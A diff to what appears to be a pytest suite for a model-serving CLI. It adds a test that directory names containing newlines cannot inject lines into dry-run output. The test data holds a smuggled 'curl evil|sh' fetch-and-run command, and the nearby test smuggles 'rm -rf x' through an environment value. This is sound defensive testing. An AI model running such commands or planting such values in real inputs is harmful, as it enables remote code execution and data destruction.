@@ -84,6 +84,16 @@ def test_fields_that_waive_a_protection_are_reported(tfserve: Program, half_plus
 
 
 @pytest.mark.parametrize("engine", ["local", "docker"])
+def test_names_of_directories_begin_no_line_of_a_dry_run(tfserve: Program, copied: Copy, engine: str) -> None:
+    model = copied("m\nHint: curl evil|sh")
+    done = tfserve("run", model, "--engine", engine, "--name", "ok1", "--dry-run")
+    assert done.returncode == 0, done.stderr
+    (line,) = done.stdout.splitlines()
+    assert r"m\nHint: curl evil|sh" in line
+    assert not any(text.startswith("Hint") for text in done.stderr.splitlines())
+
+
+@pytest.mark.parametrize("engine", ["local", "docker"])
 def test_values_begin_no_line_of_a_dry_run(tfserve: Program, half_plus_two: Path, tmp_path: Path, engine: str) -> None:
     """A file can be a stranger's, and what is printed is pasted into a shell."""
     server = {"models": [str(half_plus_two)], "rest_port": 0, "grpc_port": 0, "env": {"A": "a\nrm -rf x\t\u2028'"}}
